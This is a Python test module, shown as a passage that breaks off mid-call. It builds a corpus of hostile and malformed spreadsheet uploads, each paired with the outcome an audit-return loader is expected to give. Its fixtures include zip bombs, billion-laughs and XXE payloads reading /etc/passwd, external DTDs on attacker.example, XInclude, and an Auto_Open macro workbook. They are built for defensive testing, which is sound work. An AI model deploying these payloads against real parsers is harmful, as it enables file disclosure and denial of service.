"""The hostile and broken input corpus: named files built at test time, each with the outcome the
loaders must give it.

Every case is a small function returning the file's bytes (openpyxl, zipfile or raw XML edits; zip
bombs are streamed zeros, never committed) and an `Expected` outcome: rejected with exact issues
(code, sheet, row, column letter), or accepted with the rows stored and the warnings given.
`FILE_LEVEL` cases are refused before any sheet is read, so every loader kind gives the same answer;
the others are audit returns, run through the audit loader.

The policies these cases pin (also in README, "Loading real files"):
- a hidden (or very hidden) sheet is never read; if it has the expected headings a warning names it;
- macros are never run: a macro-enabled workbook's cell values load, with a `macros-ignored` warning;
- embedded files (a zip inside the workbook) are never opened; XInclude is never followed;
- formulas: the value Excel saved is read; a formula saved without its value is refused at its cell;
- Excel error values (#REF!, #VALUE!, #DIV/0!, #NAME? ...) are refused at their cell; #N/A means
  "nothing here", as case-system exports write it;
- merged cells in the heading row or the data are refused with their range (titles above are fine);
- control characters are removed, with a warning naming the first cell;
- a cell may hold up to 32,767 characters (Excel's limit); a longer one is refused at its cell;
- a formula-looking CSV cell (=cmd|...) is stored as the text it is, never evaluated.

Run `python tests/hostile/corpus.py` to print the table in docs/hostile_corpus.md.
"""

from __future__ import annotations

import io
import os
import re
import struct
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import date
from typing import Any

os.environ.setdefault("OPENPYXL_LXML", "False")

import openpyxl  # noqa: E402
from openpyxl.utils.datetime import CALENDAR_MAC_1904  # noqa: E402

HEADER = [
    "Audit ID", "Activity type", "Audit date", "Service area", "Team", "Worker", "Auditor",
    "Theme", "Safeguarding and thresholds", "Direct work and voice of the child",
    "Oversight of casework and decisions", "Supervision", "Overall grade",
]
SHEET = "Audits"
MiB = 1 << 20

Location = tuple[str, str | None, int | None, str | None]  # code, sheet, row, column letter


@dataclass(frozen=True)
class Expected:
    outcome: str  # "rejected" or "accepted"
    issues: tuple[Location, ...] = ()  # every issue, errors and warnings, in report order
    rows: int = 0  # rows stored when accepted
    stored: tuple[tuple[str, str, Any], ...] = ()  # (audit_id, audits column, value) when accepted

    def describe(self) -> str:
        def where(sheet: str | None, row: int | None, col: str | None) -> str:
            if row or col:
                return f" at {sheet + '!' if sheet else ''}{col or ''}{row or ''}"
            return f" (sheet {sheet})" if sheet else ""

        codes = ", ".join(f"`{c}`{where(s, row, col)}" for c, s, row, col in self.issues)
        if self.outcome == "rejected":
            return f"rejected: {codes}"
        return f"accepted, {self.rows} row(s)" + (f"; warnings {codes}" if codes else "")


@dataclass(frozen=True)
class Case:
    name: str
    group: str
    about: str
    build: Callable[[], bytes]
    expected: Expected
    file_name: str = "return.xlsx"
    file_level: bool = False  # refused before parsing: the same outcome for every loader kind
    env: dict[str, str] = field(default_factory=dict)


def rejected(*issues: Location) -> Expected:
    return Expected("rejected", tuple(issues))


def accepted(rows: int, *issues: Location, stored: tuple[tuple[str, str, Any], ...] = ()) -> Expected:
    return Expected("accepted", tuple(issues), rows, stored)


# --- builders ----------------------------------------------------------------------------------------


def row(audit_id: str, **overrides: Any) -> list[Any]:
    values: dict[str, Any] = {
        "Audit ID": audit_id, "Activity type": "Case audit", "Audit date": date(2025, 3, 14),
        "Service area": "Front Door", "Team": "MASH Team", "Worker": "Sam Patel",
        "Auditor": "Jo Reed", "Theme": "Re-referrals", "Safeguarding and thresholds": "Good",
        "Direct work and voice of the child": "Good",
        "Oversight of casework and decisions": "Requires improvement", "Supervision": "Good",
        "Overall grade": "Good",
    }
    assert set(overrides) <= set(values), overrides
    values.update(overrides)
    return [values[h] for h in HEADER]


def book(rows: list[list[Any]], *, header: list[Any] | None = None, above: list[list[Any]] | None = None,
         setup: Callable[[Any], None] | None = None) -> bytes:
    """An audit return: title rows `above`, the header row, then `rows`, on sheet 'Audits'."""
    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = SHEET
    for line in above or []:
        ws.append(line)
    ws.append(header or HEADER)
    for r in rows:
        ws.append(r)
    if setup is not None:
        setup(wb)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def good_book(prefix: str, n: int = 2) -> bytes:
    return book([row(f"{prefix}-{i}") for i in range(1, n + 1)])


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return {i.filename: zf.read(i) for i in zf.infolist()}


def rezip(parts: dict[str, bytes], *, stored: frozenset[str] = frozenset()) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data, zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED)
    return out.getvalue()


def edit(data: bytes, part: str, change: Callable[[bytes], bytes]) -> bytes:
    parts = parts_of(data)
    parts[part] = change(parts[part])
    return rezip(parts)


SHEET1 = "xl/worksheets/sheet1.xml"


def set_cell(ref: str, xml: str) -> Callable[[bytes], bytes]:
    """Replace cell `ref` of a sheet's XML (however openpyxl wrote it) with `xml`."""
    def change(sheet: bytes) -> bytes:
        pattern = re.compile(rb'<c r="' + ref.encode() + rb'"[^>]*?(?:/>|>.*?</c>)', re.DOTALL)
        new, n = pattern.subn(xml.encode(), sheet, count=1)
        assert n == 1, ref
        return new
    return change


def prolog(doctype: str) -> Callable[[bytes], bytes]:
    """Put a DOCTYPE (entity declarations) between the XML declaration and the root element."""
    def change(xml: bytes) -> bytes:
        body = re.sub(rb"^<\?xml[^>]*\?>\s*", b"", xml)
        return b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + doctype.encode() + b"\n" + body
    return change


LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
    + "]>"
)
XXE = '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def ole(streams: list[str]) -> bytes:
    """An OLE compound file (the container of .xls and of encrypted .xlsx): the CFB header and a
    directory sector naming `streams`, padded to whole sectors."""
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<I", header, 44, 1)  # one FAT sector
    struct.pack_into("<I", header, 48, 1)  # first directory sector
    fat = bytearray(b"\xff" * 512)
    struct.pack_into("<III", fat, 0, 0xFFFFFFFD, 0xFFFFFFFE, 0xFFFFFFFE)
    directory = bytearray()
    for i, name in enumerate(["Root Entry", *streams]):
        entry = bytearray(128)
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        entry[0 : len(encoded)] = encoded
        struct.pack_into("<HB", entry, 64, len(encoded), 5 if i == 0 else 2)
        directory += entry
    directory += bytes(-len(directory) % 512)
    return bytes(header) + bytes(fat) + bytes(directory) + bytes(4096)


def zeros_part(zf: zipfile.ZipFile, name: str, size: int) -> None:
    info = zipfile.ZipInfo(name)
    info.compress_type = zipfile.ZIP_DEFLATED
    with zf.open(info, "w") as fp:
        chunk = bytes(MiB)
        for _ in range(size // MiB):
            fp.write(chunk)


def with_extra_parts(data: bytes, add: Callable[[zipfile.ZipFile], None]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, part in parts_of(data).items():
            zf.writestr(name, part)
        add(zf)
    return out.getvalue()


def bomb_by_ratio() -> bytes:
    def add(zf: zipfile.ZipFile) -> None:
        zf.compression = zipfile.ZIP_DEFLATED
        zeros_part(zf, "xl/media/image1.png", 64 * MiB)
    return with_extra_parts(good_book("ZB"), add)


def bomb_by_total_size() -> bytes:
    # 41 parts of 10 MiB: no part alone trips the ratio rule; together they pass the 400 MiB cap.
    def add(zf: zipfile.ZipFile) -> None:
        for i in range(41):
            zeros_part(zf, f"xl/media/image{i}.png", 10 * MiB)
    return with_extra_parts(good_book("ZT"), add)


def bomb_overlapping() -> bytes:
    """One 10 MiB part of zeros, and 45 more directory entries all pointing at the same data
    (the overlapping-files bomb: nothing is big, yet it inflates to 460 MiB)."""
    base = with_extra_parts(good_book("ZO"), lambda zf: zeros_part(zf, "xl/media/a000.bin", 10 * MiB))
    end = base.rfind(b"PK\x05\x06")
    count, cd_size, cd_offset = struct.unpack("<HII", base[end + 10 : end + 20])
    pos, target = cd_offset, b""
    while pos < cd_offset + cd_size:
        name_len, extra_len, comment_len = struct.unpack("<HHH", base[pos + 28 : pos + 34])
        size = 46 + name_len + extra_len + comment_len
        if base[pos + 46 : pos + 46 + name_len] == b"xl/media/a000.bin":
            target = base[pos : pos + size]
        pos += size
    assert target
    copies = b"".join(target.replace(b"a000", f"a{i:03d}".encode()) for i in range(1, 46))
    tail = bytearray(base[end:])
    struct.pack_into("<HHI", tail, 8, count + 45, count + 45, cd_size + len(copies))
    return base[:end] + copies + bytes(tail)


def bomb_many_parts() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zf:
        for name, part in parts_of(good_book("ZP")).items():
            zf.writestr(name, part)
        for i in range(12_000):
            zf.writestr(f"customXml/i{i}.xml", b"")
    return out.getvalue()


def bomb_lying_sizes() -> bytes:
    """A 64 MiB part whose directory entry and local header claim it is 1 KiB."""
    data = bytearray(bomb_by_ratio())
    for sig, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        pos = data.find(sig)
        while pos >= 0:
            name_len = struct.unpack("<H", data[pos + (26 if sig == b"PK\x03\x04" else 28):][:2])[0]
            start = pos + (30 if sig == b"PK\x03\x04" else 46)
            if bytes(data[start : start + name_len]) == b"xl/media/image1.png":
                size = struct.unpack("<I", data[pos + at : pos + at + 4])[0]
                if size != 0xFFFFFFFF:
                    struct.pack_into("<I", data, pos + at, 1024)
            pos = data.find(sig, pos + 4)
    return bytes(data)


def nested_zip() -> bytes:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as zf:
        zeros_part(zf, "bomb.bin", 64 * MiB)
    payload = inner.getvalue()
    return with_extra_parts(good_book("NZ"), lambda zf: zf.writestr(
        zipfile.ZipInfo("xl/embeddings/oleObject1.zip"), payload))


def with_shared_strings(data: bytes) -> bytes:
    """The workbook with Team E2 read from a shared-strings part, as Excel writes text (openpyxl
    writes inline strings)."""
    parts = parts_of(data)
    parts[SHEET1] = set_cell("E2", '<c r="E2" t="s"><v>0</v></c>')(parts[SHEET1])
    parts["xl/sharedStrings.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="http://schemas.openxmlformats'
        b'.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>MASH Team</t></si></sst>'
    )
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", b'<Relationship Id="rIdSST" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>')
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
        b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    return rezip(parts)


def shared_strings_bomb() -> bytes:
    data = with_shared_strings(good_book("SS"))
    parts = parts_of(data)
    parts["xl/sharedStrings.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
        b'spreadsheetml/2006/main">' + b"<si><t>x</t></si>" * (48 * MiB // 17) + b"</sst>"
    )
    return rezip(parts)


def truncated(fraction: float) -> Callable[[], bytes]:
    def build() -> bytes:
        data = good_book("TR", 20)
        return data[: int(len(data) * fraction)]
    return build


def damaged_part() -> bytes:
    """The directory is intact but the sheet's compressed data is garbage."""
    data = bytearray(good_book("DP"))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
        info = zf.getinfo(SHEET1)
    name_len, extra_len = struct.unpack("<HH", data[info.header_offset + 26 : info.header_offset + 30])
    start = info.header_offset + 30 + name_len + extra_len
    data[start : start + info.compress_size] = b"\xff" * info.compress_size
    return bytes(data)


def bad_local_header() -> bytes:
    data = bytearray(good_book("LH"))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as zf:
        info = zf.getinfo(SHEET1)
    data[info.header_offset : info.header_offset + 4] = b"XXXX"
    return bytes(data)


def crc_mismatch() -> bytes:
    """A stored (uncompressed) sheet with one byte changed after its checksum was written."""
    parts = parts_of(good_book("CR"))
    data = rezip(parts, stored=frozenset({SHEET1}))
    pos = data.find(b"CR-1")
    return data[:pos] + b"CR-7" + data[pos + 4 :]


def sheet_as_dat_with_doctype() -> bytes:
    parts = parts_of(good_book("DT"))
    parts["xl/worksheets/sheet1.dat"] = prolog(XXE)(parts.pop(SHEET1))
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(b"sheet1.xml", b"sheet1.dat")
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b'<Override PartName="/xl/worksheets/sheet1.xml"', b'<Override PartName="/xl/worksheets/sheet1.dat"')
    return rezip(parts)


def utf16_workbook_doctype() -> bytes:
    def change(xml: bytes) -> bytes:
        text = prolog(LAUGHS)(xml).decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
        return b"\xff\xfe" + text.encode("utf-16-le")
    return edit(good_book("U16"), "xl/workbook.xml", change)


def padded_doctype() -> bytes:
    def change(xml: bytes) -> bytes:
        body = re.sub(rb"^<\?xml[^>]*\?>\s*", b"", xml)
        return b'<?xml version="1.0" encoding="UTF-8"?>' + b" " * 70_000 + XXE.encode() + body
    return edit(good_book("PD"), SHEET1, change)


def xinclude() -> bytes:
    def change(xml: bytes) -> bytes:
        xml = xml.replace(b"<worksheet ", b'<worksheet xmlns:xi="http://www.w3.org/2001/XInclude" ', 1)
        return xml.replace(b"<sheetData>", b'<sheetData><xi:include href="file:///etc/passwd" parse="text"/>', 1)
    return edit(good_book("XI"), SHEET1, change)


def macro_enabled(prefix: str = "VB") -> bytes:
    parts = parts_of(good_book(prefix))
    parts["xl/vbaProject.bin"] = ole(["VBA", "dir", "Module1", "PROJECT"])
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    ).replace(b"<Default Extension=\"xml\"", b'<Default Extension="bin" ContentType="application/'
              b'vnd.ms-office.vbaProject"/><Default Extension="xml"')
    return rezip(parts)


def hidden(state: str, *, visible_rows: int) -> Callable[[], bytes]:
    def build() -> bytes:
        def setup(wb: Any) -> None:
            ws = wb.active
            ws.title = "Data"
            ws.sheet_state = state
            front = wb.create_sheet("Front sheet", 0)
            wb.active = 0
            if visible_rows:
                front.append(HEADER)
                for i in range(1, visible_rows + 1):
                    front.append(row(f"HV-{state}-{i}"))
            else:
                front.append(["Instructions"])
                front.append(["Fill in the return on the Data sheet."])
        return book([row(f"HD-{state}-{i}") for i in range(1, 4)], setup=setup)
    return build


def merged(rng: str, rows_: list[list[Any]] | None = None, above: list[list[Any]] | None = None) -> Callable[[], bytes]:
    def build() -> bytes:
        return book(rows_ or [row("MG-1"), row("MG-2"), row("MG-3")], above=above,
                    setup=lambda wb: wb.active.merge_cells(rng))
    return build


def with_cell(prefix: str, ref: str, xml: str, n: int = 2) -> Callable[[], bytes]:
    return lambda: edit(good_book(prefix, n), SHEET1, set_cell(ref, xml))


def date1904_book() -> bytes:
    def setup(wb: Any) -> None:
        wb.epoch = CALENDAR_MAC_1904
    return book([row("D4-1", **{"Audit date": date(2025, 3, 14)}),
                 row("D4-2", **{"Audit date": date(2024, 2, 29)})], setup=setup)


def date1904_serial_text() -> bytes:
    serial = (date(2025, 3, 14) - date(1904, 1, 1)).days  # what 14/03/2025 is in the 1904 system
    def setup(wb: Any) -> None:
        wb.epoch = CALENDAR_MAC_1904
    return book([row("D4S-1", **{"Audit date": str(serial)})], setup=setup)


def csv_bytes(rows_: list[list[Any]], *, header: list[str] | None = None) -> str:
    lines = [",".join(header or HEADER)]
    for r in rows_:
        lines.append(",".join(v.strftime("%d/%m/%Y") if isinstance(v, date) else str(v) for v in r))
    return "\r\n".join(lines) + "\r\n"


def far_row() -> bytes:
    def setup(wb: Any) -> None:
        wb.active["A1048576"] = "end"
    return book([row("FR-1")], setup=setup)


def far_cell(ref: str) -> Callable[[], bytes]:
    def build() -> bytes:
        def setup(wb: Any) -> None:
            wb.active[ref] = "end"
        return book([row("FC-1")], setup=setup)
    return build


def last_column() -> bytes:
    def setup(wb: Any) -> None:
        wb.active["XFD2"] = "stray note"
    return book([row("LC-1")], setup=setup)


LONG_OK = "Strong direct work. " * 1600  # 32,000 characters
LONG_BAD = "x" * 40_000
PASSWD = "root:x:0:0"  # what /etc/passwd starts with; must never reach the database


# --- the corpus ---------------------------------------------------------------------------------------

C: list[Case] = []


def case(name: str, group: str, about: str, build: Callable[[], bytes], expected: Expected, **kw: Any) -> None:
    C.append(Case(name, group, about, build, expected, **kw))


def file_level(name: str, group: str, about: str, build: Callable[[], bytes], code: str,
               file_name: str = "return.xlsx") -> None:
    case(name, group, about, build, rejected((code, None, None, None)), file_name=file_name, file_level=True)


NOT = "not a workbook"
file_level("empty_file", NOT, "0 bytes", lambda: b"", "empty-file")
file_level("text_named_xlsx", NOT, "plain text saved as .xlsx", lambda: b"Audit ID,Team\nA-1,MASH\n",
           "not-a-spreadsheet")
file_level("pdf_named_xlsx", NOT, "a PDF renamed .xlsx",
           lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n", "not-a-spreadsheet")
file_level("png_named_xlsx", NOT, "a PNG renamed .xlsx",
           lambda: b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + bytes(17), "not-a-spreadsheet")
file_level("html_saved_as_xls", NOT, "an HTML table saved as .xls (a common 'export to Excel')",
           lambda: b"<html><body><table><tr><td>Audit ID</td></tr></table></body></html>", "not-a-spreadsheet",
           file_name="export.xls")
file_level("xml_spreadsheet_2003", NOT, "Excel 2003 XML spreadsheet renamed .xlsx",
           lambda: b'<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"/>',
           "not-a-spreadsheet")
file_level("gzip_named_xlsx", NOT, "a gzip stream renamed .xlsx", lambda: b"\x1f\x8b\x08\x00" + bytes(20),
           "not-a-spreadsheet")
file_level("zip_without_workbook", NOT, "a zip holding a Word document's parts",
           lambda: rezip({"word/document.xml": b"<w:document/>", "[Content_Types].xml": b"<Types/>"}),
           "not-a-spreadsheet")
file_level("zip_magic_only", NOT, "'PK' and nothing a zip needs", lambda: b"PK\x03\x04" + bytes(60),
           "not-a-spreadsheet")
file_level("file_too_large", NOT, "over the 100 MiB upload cap", lambda: b"PK\x03\x04" + bytes(101 * MiB),
           "file-too-large")

TRUNC = "truncated or damaged"
for pct in (1, 10, 50, 90):
    file_level(f"truncated_{pct}pc", TRUNC, f"cut at {pct}% of its length", truncated(pct / 100), "not-a-spreadsheet")
file_level("truncated_last_byte", TRUNC, "the last byte missing (end record damaged)",
           lambda: good_book("TB")[:-1], "not-a-spreadsheet")
file_level("damaged_part", TRUNC, "directory intact, the sheet's compressed data garbage", damaged_part,
           "not-a-spreadsheet")
file_level("bad_local_header", TRUNC, "the sheet's local header overwritten", bad_local_header,
           "not-a-spreadsheet")
file_level("crc_mismatch", TRUNC, "a stored sheet changed after its checksum was written", crc_mismatch,
           "not-a-spreadsheet")

OLE = "encrypted or legacy"
file_level("password_protected", OLE, "an OLE container with EncryptionInfo and EncryptedPackage",
           lambda: ole(["EncryptionInfo", "EncryptedPackage", "\x06DataSpaces"]), "password-protected")
file_level("legacy_xls", OLE, "an Excel 97-2003 .xls (OLE with a Workbook stream)",
           lambda: ole(["Workbook", "\x05SummaryInformation"]), "legacy-xls", file_name="return.xls")
file_level("legacy_xls_named_xlsx", OLE, "a .xls renamed .xlsx", lambda: ole(["Workbook"]), "legacy-xls")
file_level("ole_word_document", OLE, "a Word 97 .doc renamed .xlsx (any other OLE file)",
           lambda: ole(["WordDocument", "1Table"]), "legacy-xls")

BOMB = "zip bomb"
file_level("bomb_by_ratio", BOMB, "one 64 MiB part of zeros (ratio ~1000:1)", bomb_by_ratio, "zip-bomb")
file_level("bomb_by_total_size", BOMB, "41 parts of 10 MiB: each under the ratio rule, 410 MiB in all",
           bomb_by_total_size, "zip-bomb")
file_level("bomb_overlapping_entries", BOMB, "46 directory entries sharing one 10 MiB stream",
           bomb_overlapping, "zip-bomb")
file_level("bomb_many_parts", BOMB, "12,000 parts (the cap is 10,000), refused before zipfile lists them",
           bomb_many_parts, "zip-bomb")
file_level("bomb_many_parts_lying_count", BOMB, "12,000 parts, the end record claiming 20",
           lambda: (lambda d: d[:d.rfind(b"PK\x05\x06") + 8] + struct.pack("<HH", 20, 20)
                    + d[d.rfind(b"PK\x05\x06") + 12:])(bomb_many_parts()), "zip-bomb")
file_level("bomb_lying_sizes", BOMB, "a 64 MiB part whose headers claim 1 KiB", bomb_lying_sizes, "zip-bomb")
file_level("bomb_in_shared_strings", BOMB, "48 MiB of tiny shared strings (ratio ~300:1)",
           shared_strings_bomb, "zip-bomb")
case("nested_zip_never_opened", BOMB, "a 64 MiB bomb zipped inside the workbook as an embedding: never opened",
     nested_zip, accepted(2))

XML = "XML entities"
for part, where in (("xl/sharedStrings.xml", "shared strings"), (SHEET1, "the sheet"),
                    ("xl/workbook.xml", "workbook.xml"), ("xl/styles.xml", "styles"),
                    ("[Content_Types].xml", "[Content_Types].xml"), ("_rels/.rels", "the package rels")):
    slug = re.sub(r"[^a-z0-9]+", "_", where.lower()).strip("_")
    file_level(f"billion_laughs_{slug}", XML, f"entity expansion (billion laughs) in {where}",
               (lambda p: lambda: edit(with_shared_strings(good_book("BL")), p, prolog(LAUGHS)))(part),
               "unsafe-xml")
file_level("external_entity_sheet", XML, "external entity file:///etc/passwd in the sheet",
           lambda: edit(good_book("XE"), SHEET1, prolog(XXE)), "unsafe-xml")
file_level("external_dtd_shared_strings", XML, "an external DTD (SYSTEM http://...) in shared strings",
           lambda: edit(with_shared_strings(good_book("XD")), "xl/sharedStrings.xml",
                        prolog('<!DOCTYPE sst SYSTEM "http://attacker.example/x.dtd">')), "unsafe-xml")
file_level("parameter_entity_workbook", XML, "a parameter entity pulling a remote DTD",
           lambda: edit(good_book("PE"), "xl/workbook.xml", prolog(
               '<!DOCTYPE w [<!ENTITY % remote SYSTEM "http://attacker.example/e.dtd"> %remote;]>')),
           "unsafe-xml")
file_level("doctype_after_padding", XML, "DOCTYPE after 70,000 spaces of prolog", padded_doctype, "unsafe-xml")
file_level("doctype_utf16_workbook", XML, "entities in a UTF-16 workbook.xml (NULs between letters)",
           utf16_workbook_doctype, "unsafe-xml")
file_level("doctype_in_part_named_dat", XML, "the sheet moved to sheet1.dat (rels point there) with an XXE",
           sheet_as_dat_with_doctype, "unsafe-xml")
case("shared_strings_control", XML, "the same workbook with Team from shared strings and no DTD: loads",
     lambda: with_shared_strings(good_book("SC")), accepted(2, stored=(("SC-1", "team", "MASH Team"),)))
case("xinclude_never_followed", XML, "an XInclude of /etc/passwd in the sheet: ignored, the data loads",
     xinclude, accepted(2, stored=(("XI-1", "team", "MASH Team"),)))

MAC = "macros"
case("macro_enabled_xlsm", MAC, "an .xlsm with xl/vbaProject.bin: values read, macros never run",
     macro_enabled, accepted(2, ("macros-ignored", None, None, None)), file_name="return.xlsm")

case("macro_auto_open", MAC, "macros plus a defined name Auto_Open (runs on open in Excel): never run",
     lambda: edit(macro_enabled("AO"), "xl/workbook.xml", lambda x: x.replace(
         b"<definedNames />", b'<definedNames><definedName name="Auto_Open">Module1.Run</definedName></definedNames>')),
     accepted(2, ("macros-ignored", None, None, None)), file_name="return.xlsm")

SHEETS = "hidden sheets"
case("hidden_data_sheet_only", SHEETS, "the data on a hidden sheet, instructions on the visible one",
     hidden("hidden", visible_rows=0),
     rejected(("hidden-sheet-ignored", "Data", None, None), ("no-header-row", None, None, None)))
case("very_hidden_data_sheet", SHEETS, "the data on a 'very hidden' sheet (only VBA can unhide it)",
     hidden("veryHidden", visible_rows=0),
     rejected(("hidden-sheet-ignored", "Data", None, None), ("no-header-row", None, None, None)))
case("hidden_and_visible_data", SHEETS, "data on a visible and on a hidden sheet: the visible one is read",
     hidden("hidden", visible_rows=2), accepted(2, ("hidden-sheet-ignored", "Data", None, None),
                                                stored=(("HV-hidden-1", "source_sheet", "Front sheet"),)))

HEAD = "headers"
case("merged_header_cells", HEAD, "'Audit date' merged across C1:D1",
     merged("C1:D1"), rejected(("merged-header", SHEET, 1, "C")))
case("merged_header_vertical", HEAD, "heading A1 merged down into the first data row (A1:A2)",
     merged("A1:A2"), rejected(("merged-header", SHEET, 1, "A")))
case("merged_data_cells", HEAD, "service area merged down D2:D4: only D2 has a value",
     merged("D2:D4"), rejected(("merged-cells", SHEET, 2, "D")))
case("merged_title_above_header", HEAD, "a title merged across A1:M1 above the heading row",
     merged("A1:M1", above=[["Quarterly audit return"]]), accepted(3))
case("duplicate_header", HEAD, "two 'Overall grade' columns",
     lambda: book([row("DH-1") + ["Good"]], header=[*HEADER, "Overall grade"]),
     rejected(("duplicate-column", SHEET, 1, "N")))
case("duplicate_header_synonym", HEAD, "'Audit date' and 'Date of audit'",
     lambda: book([row("DS-1") + [date(2025, 3, 1)]], header=[*HEADER, "Date of audit"]),
     rejected(("duplicate-column", SHEET, 1, "N")))
case("blank_header_with_values", HEAD, "values in column N under a blank heading",
     lambda: book([row("BH-1") + ["note"], row("BH-2")]),
     accepted(2, ("column-without-heading", SHEET, 1, "N")))
case("no_header_row", HEAD, "data rows only, no heading row",
     lambda: book([row("NH-1")], header=row("NH-0")), rejected(("no-header-row", None, None, None)))
case("cell_in_last_column", HEAD, "a stray note in XFD2, the last column Excel has (over 1,000 columns)",
     last_column, rejected(("sheet-too-large", SHEET, None, None)), file_level=True)
case("stray_cell_in_column_AX", HEAD, "a stray note in AX2, far right but within the caps",
     far_cell("AX2"), accepted(1, ("column-without-heading", SHEET, 1, "AX")))

FORM = "formulas and errors"
case("formula_without_cached_value", FORM, "Overall grade M2 is a formula saved without its result",
     with_cell("FV", "M2", '<c r="M2" t="str"><f>IF(1,"Good","Good")</f></c>'),
     rejected(("formula-without-value", SHEET, 2, "M")))
case("formula_empty_value_numeric", FORM, "E3 = a formula with an empty numeric <v/> (openpyxl writes these)",
     with_cell("FE", "E3", '<c r="E3"><f>1+1</f><v></v></c>'),
     rejected(("formula-without-value", SHEET, 3, "E")))
case("formula_with_cached_value", FORM, "Team E2 a formula with its saved result: the result is read",
     with_cell("FC", "E2", '<c r="E2" t="str"><f>"Duty "&amp;"Team"</f><v>Duty Team</v></c>'),
     accepted(2, stored=(("FC-1", "team", "Duty Team"),)))
case("formula_empty_string_result", FORM, 'Team E2 =IF(..,"","") saved with its empty result: blank',
     with_cell("FS", "E2", '<c r="E2" t="str"><f>IF(1,"","")</f><v></v></c>'),
     accepted(2, stored=(("FS-1", "team", None),)))
for err, ref in (("#REF!", "M2"), ("#VALUE!", "C3"), ("#DIV/0!", "I2"), ("#NAME?", "D3"), ("#NUM!", "F2")):
    slug = re.sub(r"[^A-Za-z0-9]", "", err).lower()
    case(f"error_{slug}", FORM, f"{err} in {ref}",
         with_cell(f"E{slug}", ref, f'<c r="{ref}" t="e"><f>A1/0</f><v>{err}</v></c>'),
         rejected(("error-value", SHEET, int(ref[1:]), ref[0])))
case("error_na_is_blank", FORM, "#N/A in Team E2: 'nothing here', as exports write it",
     with_cell("NA", "E2", '<c r="E2" t="e"><f>NA()</f><v>#N/A</v></c>'),
     accepted(2, stored=(("NA-1", "team", None),)))
case("error_outside_the_table", FORM, "#REF! in a title row above the headings",
     lambda: edit(book([row("EO-1")], above=[["Return", "x"]]), SHEET1,
                  set_cell("B1", '<c r="B1" t="e"><v>#REF!</v></c>')), accepted(1))
case("many_error_values", FORM, "#REF! in 60 rows: 50 listed, then one summary line",
     lambda: edit(good_book("ME", 60), SHEET1, lambda xml: re.sub(
         rb'<c r="E([0-9]+)"[^>]*?(?:/>|>.*?</c>)',
         lambda m: b'<c r="E' + m.group(1) + b'" t="e"><v>#REF!</v></c>' if m.group(1) != b"1" else m.group(0),
         xml, flags=re.DOTALL)),
     rejected(*[("error-value", SHEET, r, "E") for r in range(2, 52)], ("error-value", SHEET, None, None)))

DATES = "1904 dates"
case("date1904_system", DATES, "a workbook on the 1904 date system (old Mac Excel)", date1904_book,
     accepted(2, stored=(("D4-1", "audit_date", date(2025, 3, 14)), ("D4-2", "audit_date", date(2024, 2, 29)))))
case("date1904_serial_as_text", DATES, "a 1904 serial typed as text", date1904_serial_text,
     accepted(1, stored=(("D4S-1", "audit_date", date(2025, 3, 14)),)))

HUGE = "huge cells and rows"
case("huge_cell_within_cap", HUGE, "32,000 characters of strengths (the cap is 32,767)",
     lambda: book([row("HC-1") + [LONG_OK]], header=[*HEADER, "Strengths"]),
     accepted(1, stored=(("HC-1", "strengths", LONG_OK.strip()),)))
case("huge_cell_over_cap", HUGE, "40,000 characters in Strengths N2",
     lambda: edit(book([row("HX-1") + ["long"]], header=[*HEADER, "Strengths"]), SHEET1,
                  set_cell("N2", f'<c r="N2" t="inlineStr"><is><t>{LONG_BAD}</t></is></c>')),
     rejected(("cell-too-long", SHEET, 2, "N")))
case("huge_cell_over_cap_csv", HUGE, "40,000 characters in a CSV cell",
